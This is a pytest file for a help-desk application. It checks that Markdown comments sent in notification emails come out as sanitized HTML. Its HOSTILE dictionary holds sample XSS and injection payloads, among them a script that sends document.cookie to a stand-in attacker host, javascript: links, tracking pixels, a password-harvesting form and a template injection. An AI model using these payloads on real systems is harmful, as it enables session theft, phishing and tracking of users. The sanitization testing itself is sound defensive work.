"""What people wrote, in a mail: as HTML that can do nothing, and as the Markdown that it is."""

import re
from uuid import UUID

import pytest

from chalicelib.tickets import markdown
from tests.support.cast import Cast, Person
from tests.support.desk import Desk
from tests.support.for_each import for_each
from tests.support.mailbox import Mailbox, deliver, html_of, text_of

LANGUAGES = pytest.mark.parametrize(
    ("language", "wrote"), [("en", "Dario wrote:"), ("es", "Dario escribió:")]
)
HOSTILE = {
    "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "script link": "[run](javascript:alert%281%29) [run](JaVaScRiPt:alert%281%29)",
    "style": "<style>body{background:url(https://evil.example/s)}</style>",
    "style of an element": '<p style="background:url(https://evil.example/s)">x</p>',
    "data link": "[look](data:text/html;base64,PHNjcmlwdD4=)",
    "data picture": "![p](data:image/png;base64,AAAA)",
    "pixel": "![](https://evil.example/pixel.gif?who=carol)",
    "pixel in HTML": '<img src="https://evil.example/p.gif" width="1" height="1">',
    "frame": '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "base": '<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example/x.css">',
    "handler": '[x](https://a.example/"onmouseover="alert(1))',
    "end of the quote": "</blockquote></body></html><b>free</b>",
    "comment": "<!--[if mso]><img src=https://evil.example/m><![endif]-->",
    "template": "{{ 7*7 }} {% include 'x' %}",
}


def told(desk: Desk, ticket: UUID, author: Person, body: str, visibility: str = "public") -> None:
    comment = desk.comment(ticket, author, body, visibility)
    internal = visibility == "internal"
    event = desk.event(
        "ticket.commented", ticket, author, meta={"comment_id": str(comment)}, internal=internal
    )
    assert deliver(event) == []


class TestWritten:
    @LANGUAGES
    def test_a_comment_is_html_in_one_part_and_markdown_in_the_other(
        self, desk: Desk, cast: Cast, mailbox: Mailbox, language: str, wrote: str
    ) -> None:
        desk.database.run("UPDATE workspaces SET language = :l WHERE id = :w", l=language, w=cast.acme)
        body = "**Try** this:\n\n1. pull\n2. push\n\n[How](https://help.example/a?b=1&c=2)\n```\nip a\n```"

        told(desk, desk.ticket(cast.carol), cast.dario, body)

        [mail] = mailbox.mails
        assert wrote in text_of(mail)
        assert "\n".join(f"> {line}".rstrip() for line in body.splitlines()) in text_of(mail).replace(
            "\r", ""
        )
        html = html_of(mail)
        assert wrote in html
        assert "<strong>Try</strong>" in html
        assert "<li>push</li>" in html
        assert "<pre><code>ip a\n</code></pre>" in html.replace("\r", "")
        assert (
            '<a href="https://help.example/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">How</a>' in html
        )
        assert "**" not in html

    def test_a_resolution_is_html_too(self, desk: Desk, cast: Cast, mailbox: Mailbox) -> None:
        ticket = desk.ticket(cast.carol, assignee=cast.ana, status="resolved")
        comment = desk.comment(ticket, cast.ana, "*Replaced* the switch.")
        desk.event("ticket.commented", ticket, cast.ana, meta={"comment_id": str(comment)})
        resolved = desk.event("ticket.resolved", ticket, cast.ana)
        desk.database.run(
            "UPDATE timeline_entries SET created_at = e.created_at FROM events e WHERE e.id = :e",
            e=resolved["id"],
        )

        deliver(resolved)

        assert "<em>Replaced</em> the switch." in html_of(mailbox.mails[0])
        assert "> *Replaced* the switch." in text_of(mailbox.mails[0])

    def test_html_of_another_version_is_made_anew(self, desk: Desk, cast: Cast, mailbox: Mailbox) -> None:
        ticket = desk.ticket(cast.carol)
        comment = desk.comment(ticket, cast.dario, "*new*")
        desk.database.run("UPDATE comments SET body_html = '<script>old</script>', html_version = 0")

        deliver(desk.event("ticket.commented", ticket, cast.dario, meta={"comment_id": str(comment)}))

        assert "<em>new</em>" in html_of(mailbox.mails[0])
        assert "<script" not in html_of(mailbox.mails[0])

    def test_html_of_this_version_is_what_the_comment_keeps(
        self, desk: Desk, cast: Cast, mailbox: Mailbox
    ) -> None:
        ticket = desk.ticket(cast.carol)
        comment = desk.comment(ticket, cast.dario, "kept")
        desk.database.run(
            "UPDATE comments SET body_html = '<p><em>kept</em></p>', html_version = :v", v=markdown.VERSION
        )

        deliver(desk.event("ticket.commented", ticket, cast.dario, meta={"comment_id": str(comment)}))

        assert "<p><em>kept</em></p>" in html_of(mailbox.mails[0])

    def test_what_a_new_ticket_asks_is_no_markdown(self, desk: Desk, cast: Cast, mailbox: Mailbox) -> None:
        ticket = desk.ticket(cast.carol, assignee=cast.ana, description="*one*\ntwo <b>")

        deliver(desk.event("ticket.created", ticket, cast.dario))

        [mail] = [mail for mail in mailbox.mails if mail["To"].addresses[0].addr_spec == cast.ana.email]
        assert "<p>*one*<br>two &lt;b&gt;</p>" in html_of(mail)


class TestHarmless:
    @LANGUAGES
    @for_each("hostile", HOSTILE.values())
    def test_nothing_of_it_runs_loads_or_leaves_its_place(
        self, desk: Desk, cast: Cast, mailbox: Mailbox, language: str, wrote: str, hostile: str
    ) -> None:
        desk.database.run("UPDATE workspaces SET language = :l WHERE id = :w", l=language, w=cast.acme)

        mailbox.empty()
        told(desk, desk.ticket(cast.carol), cast.dario, hostile)

        [mail] = mailbox.mails
        html = html_of(mail)
        assert wrote in html
        said = html.partition("<blockquote")[2].partition(">")[2].partition("</blockquote>")[0]
        assert set(re.findall(r"</?(\w+)", html.replace(said, ""))) <= LAYOUT
        assert set(re.findall(r"<(\w+)", said)) <= markdown.TAGS
        for tag in re.findall(r"<[^>]+>", said):
            assert not re.search(r"\s(?:src|style|on\w+|background|action)\s*=", tag)
            for address in re.findall(r'href="([^"]*)"', tag):
                assert address.startswith(("http://", "https://", "mailto:"))
        assert html.count("</blockquote>") == 1
        assert " 49 " not in html
        assert hostile.splitlines()[0] in text_of(mail)

    def test_a_note_is_as_harmless(self, desk: Desk, cast: Cast, mailbox: Mailbox) -> None:
        ticket = desk.ticket(cast.carol, assignee=cast.ana)

        told(desk, ticket, cast.dario, HOSTILE["pixel"] + HOSTILE["script"], "internal")

        assert mailbox.recipients == [cast.ana.email]
        assert "<img" not in html_of(mailbox.mails[0])
        assert "<script" not in html_of(mailbox.mails[0])


# What the mail itself is made of.
LAYOUT = frozenset(
    {"html", "head", "meta", "title", "style", "body", "p", "br", "blockquote", "table", "tr", "td"}
)
